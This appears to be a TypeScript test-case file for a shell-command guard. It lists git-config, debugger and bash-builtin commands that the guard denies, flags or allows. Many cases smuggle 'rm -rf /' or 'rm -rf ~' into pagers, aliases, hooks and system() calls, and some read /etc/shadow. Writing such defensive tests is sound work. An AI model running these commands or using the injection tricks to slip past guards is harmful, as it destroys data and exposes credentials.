import type { ShellCase } from './cases-deny.ts';
import { COMPUTED, INLINE, RH, RR, SEC, UNSEEN } from './rule-ids.ts';

/**
 * Shell code set through git configuration, debugger expressions and builtins that assign variables
 * (review: each was allowed). Each is refused at the rule the bare command gets, or asks when the code cannot be seen.
 */
export const SETTINGS_CODE: readonly ShellCase[] = [
  // git grep's pager is a whole command line, wrappers and all
  ["git grep -O'sudo rm -rf /' x", 'deny', RR],
  ["git grep --open-files-in-pager='env X=1 rm -rf ~' x", 'deny', RH],
  // git -c: configuration keys git runs as shell code
  ["git -c core.sshCommand='rm -rf /' fetch", 'deny', RR],
  ["git -c core.fsmonitor='rm -rf ~' status", 'deny', RH],
  ["git -c diff.x.textconv='rm -rf /' diff", 'deny', RR],
  ["git -c filter.lfs.smudge='rm -rf /' checkout .", 'deny', RR],
  ["git -c merge.ours.driver='rm -rf ~' merge x", 'deny', RH],
  ["git -c difftool.x.cmd='cat /etc/shadow' difftool", 'deny', SEC],
  ["git -c Core.Pager='rm -rf /' log", 'deny', RR],
  ["git -c credential.https://example.com.helper='!rm -rf /' fetch", 'deny', RR],
  ["git -c interactive.diffFilter='rm -rf /' add -p", 'deny', RR],
  ["sudo git -c alias.x='!rm -rf /' x", 'deny', RR],
  // ... and through the environment: GIT_CONFIG_KEY_n / GIT_CONFIG_VALUE_n pairs, GIT_CONFIG_PARAMETERS
  ["GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log", 'deny', RR],
  ["env GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=alias.x GIT_CONFIG_VALUE_0='!rm -rf ~' git x", 'deny', RH],
  ["export GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.editor; export GIT_CONFIG_VALUE_0='rm -rf /'; git commit", 'deny', RR],
  ["GIT_CONFIG_VALUE_0='rm -rf /'; GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_COUNT=1 git log", 'deny', RR],
  ["GIT_CONFIG_PARAMETERS=\"'core.pager'='rm -rf /'\" git log", 'deny', RR],
  // git --config-env takes the value from a variable
  ["P='rm -rf /'; git --config-env=core.pager=P log", 'deny', RR],
  // git config writes code that every later git command runs
  ["git config --global core.pager 'rm -rf /'", 'deny', RR],
  ["git config alias.x '!rm -rf ~'", 'deny', RH],
  ["git config set --local core.sshCommand 'rm -rf /'", 'deny', RR],
  ["git config --add diff.external 'rm -rf /'", 'deny', RR],
  ["git -c submodule.lib.update='!rm -rf /' submodule update", 'deny', RR],
  // debuggers: the string given to system()/popen() in the debugged process is shell code
  ['gdb -ex \'call system("rm -rf /")\' ./prog', 'deny', RR],
  ['gdb -p 1 -batch -ex \'call (int)system("rm -rf ~")\'', 'deny', RH],
  ['gdb -ex \'print popen("cat /etc/shadow", "r")\' ./prog', 'deny', SEC],
  ['gdb -ex \'p system("echo \\"x\\"; rm -rf /")\' ./prog', 'deny', RR],
  ['lldb -o \'expr (int)system("rm -rf /")\' ./prog', 'deny', RR],
  ['lldb -p 1 -o \'expression -- (void)system("rm -rf ~")\'', 'deny', RH],
  ['gdb -batch -ex \'print $_shell("rm -rf /")\' ./prog', 'deny', RR],
  ['rust-gdb -ex \'call system("rm -rf /")\' ./prog', 'deny', RR],
  // lldb's `platform shell` takes options up to `--`
  ["lldb -o 'platform shell -- rm -rf /' ./prog", 'deny', RR],
  ["lldb -o 'platform shell -s /bin/sh -t 5 -- rm -rf ~'", 'deny', RH],
  // builtins that assign a code variable: judged like `LESSOPEN=…`
  ["printf -v LESSOPEN '|rm -rf / %s'", 'deny', RR],
  ["printf -v PROMPT_COMMAND '%s -rf %s' rm /", 'deny', RR],
  ["printf -vLESSOPEN -- '|rm -rf ~ %%s'; less f", 'deny', RH],
  ["printf -v 'PROMPT_COMMAND[1]' 'rm -rf /'", 'deny', RR],
  ["read LESSOPEN <<< '|rm -rf / %s'", 'deny', RR],
  ["read -r PROMPT_COMMAND <<< 'rm -rf /'", 'deny', RR],
  ["echo 'rm -rf ~' | read -r GIT_PAGER", 'deny', RH],
  ["read -r a PAGER <<< 'x rm -rf /'", 'deny', RR],
  ["mapfile -t PROMPT_COMMAND <<< 'rm -rf /'", 'deny', RR],
  ["readarray PROMPT_COMMAND <<'EOF'\ndate\nrm -rf ~\nEOF", 'deny', RH],
  // mapfile -C runs its callback as shell code
  ["mapfile -C 'rm -rf /' -c 1 lines < f", 'deny', RR],
];

/** The same settings when the code cannot be seen: flagged. */
export const SETTINGS_UNSEEN: readonly ShellCase[] = [
  // a hooks path or an included config file: git runs what is there
  ['git -c core.hooksPath=/tmp/hooks commit -m x', 'ask', UNSEEN],
  ["git -c core.hookspath=.githooks commit -m 'x'", 'ask', UNSEEN],
  ['git -c include.path=/tmp/evil.cfg log', 'ask', UNSEEN],
  ['git -c includeIf.gitdir:~/.path=/tmp/x log', 'ask', UNSEEN],
  ['git config core.hooksPath .husky', 'ask', UNSEEN],
  ['GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.hooksPath GIT_CONFIG_VALUE_0=/tmp/h git commit', 'ask', UNSEEN],
  // a key or value computed at run time
  ['git -c core.pager="$X" log', 'ask', COMPUTED],
  ['git -c "$KEY=less" log', 'ask', UNSEEN],
  ['git --config-env=core.pager=PAGER_CMD log', 'ask', UNSEEN],
  ['git --config-env core.editor=ED commit', 'ask', UNSEEN],
  // debuggers: calls that start programs or load code, with a string that is not a literal
  ['gdb -ex \'call system("ls")\' ./prog', 'ask', INLINE],
  ['gdb -p 1 -ex \'call system(cmd)\'', 'ask', INLINE],
  ['gdb -p 1 -ex \'call (void*)dlopen("/tmp/x.so", 2)\'', 'ask', INLINE],
  ['gdb -ex \'call execl("/bin/sh", "sh", 0)\' ./prog', 'ask', INLINE],
  ['lldb -o \'expr (int)system("id")\' ./prog', 'ask', INLINE],
  ['lldb -o \'p (int)__libc_system(buf)\' ./prog', 'ask', INLINE],
  // a code variable set from input the guard cannot read, or through a name reference
  ['read LESSOPEN < settings.txt', 'ask', UNSEEN],
  ['read -r PROMPT_COMMAND', 'ask', UNSEEN],
  ['curl -s https://x.example/p | read PAGER', 'ask', UNSEEN],
  ['printf -v LESSOPEN "$FMT" x', 'ask', UNSEEN],
  ["printf -v LESSOPEN '|%s %%s' \"$x\"", 'ask', COMPUTED],
  ['mapfile PROMPT_COMMAND < cmds.txt', 'ask', UNSEEN],
  ['declare -n ref=PROMPT_COMMAND; ref=date', 'ask', UNSEEN],
  ['local -n p=LESSOPEN', 'ask', UNSEEN],
];

/** Look-alikes: the same options and builtins doing nothing the rules care about. */
export const SETTINGS_LOOKALIKES: readonly ShellCase[] = ([
  'git grep -O less TODO', "git grep -O'code --wait' TODO", 'git grep -Oless TODO',
  'git -c core.pager=less log', "git -c core.pager='less -FRX' log", 'git -c core.editor=vim commit', 'git -c color.ui=always log',
  "git -c user.name='rm -rf /' commit -m x", 'git -c core.hooksPath=/dev/null commit -m x', "git -c alias.co='checkout' co main",
  "git -c alias.l='!git log --oneline' l", 'git -c pager.log=false log', 'git -c core.fsmonitor=true status', 'git -c diff.x.textconv=hexdump diff',
  "git -c credential.helper='store --file ~/.my-credentials' push", 'git -c user.email="$EMAIL" commit -m x',
  "git log -c core.pager='rm -rf /'", "git commit -m \"-c core.pager='rm -rf /'\"",
  'git --config-env=user.name=GIT_USER commit -m x', 'GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=user.name GIT_CONFIG_VALUE_0=bot git commit -m x',
  "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='less -R' git log", "GIT_CONFIG_PARAMETERS=\"'color.ui'='always'\" git log",
  'git config --global core.pager less', 'git config core.editor "code --wait"', "git config --get alias.x '!rm'", 'git config --unset core.pager',
  'git config user.name "rm -rf /"', 'git config core.hooksPath', 'git config get core.pager', 'git config --list',
  "gdb -ex 'print x' ./prog", "gdb -ex 'call foo(1)' ./prog", "gdb -ex 'break system' ./prog", "gdb -ex 'info symbol system' ./prog",
  "lldb -o 'expr x + 1' ./prog", "lldb -o 'platform shell -- ls' ./prog", "gdb -ex 'print $_strlen(\"x\")' ./prog", 'git -c submodule.lib.update=rebase submodule update', "lldb -o 'breakpoint set -n system' ./prog", "gdb -ex 'print \"system\"' ./prog",
  "printf -v out '%s' 'rm -rf /'", "printf -v LESSOPEN '|lesspipe %s'", "printf '%s' LESSOPEN", "read -r line <<< 'rm -rf /'",
  "read -r PAGER <<< 'less -R'", 'read -r x < f', 'mapfile -t lines < f', "mapfile -t PROMPT_COMMAND <<< 'history -a'",
  'declare -n ref=arr', 'local -n out=$1', 'declare -a PROMPT_COMMAND', 'while read -r f; do echo "$f"; done < list',
  "mapfile -C 'echo loaded' -c 100 lines < f",
] as const).map((c): ShellCase => [c, 'allow']);
